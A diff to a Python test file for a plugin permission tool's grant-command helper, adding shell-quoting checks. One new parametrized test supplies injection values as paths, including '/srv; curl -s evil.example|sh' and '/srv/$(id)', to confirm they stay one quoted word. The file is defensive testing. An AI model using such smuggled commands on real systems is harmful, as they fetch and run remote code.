@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import shlex
+
 import msgspec
 import pytest
 
@@ -30,12 +32,20 @@ def test_what_it_asks_for_can_be_granted(step):
     assert (
         step("filesystem.write:/home/me/a/f") == "To allow it: yesman plugin grant demo filesystem.write:~/a"
     )
-    assert step("session.read:work-1").endswith("grant demo session.read:work-*")
+    assert step("session.read:work-1").endswith("grant demo 'session.read:work-*'")
 
 
 def test_of_a_bare_path_permission_the_path_is_granted(step):
     assert step("filesystem.read:/srv/f").endswith("grant demo filesystem.read:/srv/f")
     assert step("filesystem.read:/srv/f", grants=("filesystem.read",)).endswith("filesystem.read:/srv/f")
+
+
+@pytest.mark.parametrize(
+    "path", ["/srv/my papers", "/srv; curl -s evil.example|sh", "/srv/it's", "/srv/$(id)"]
+)
+def test_whatever_a_path_holds_is_one_word_of_the_command(step, path):
+    command = step(f"filesystem.read:{path}").partition(": ")[2]
+    assert shlex.split(command) == ["yesman", "plugin", "grant", "demo", f"filesystem.read:{path}"]
 
 
 def test_what_it_does_not_ask_for_cannot(step):
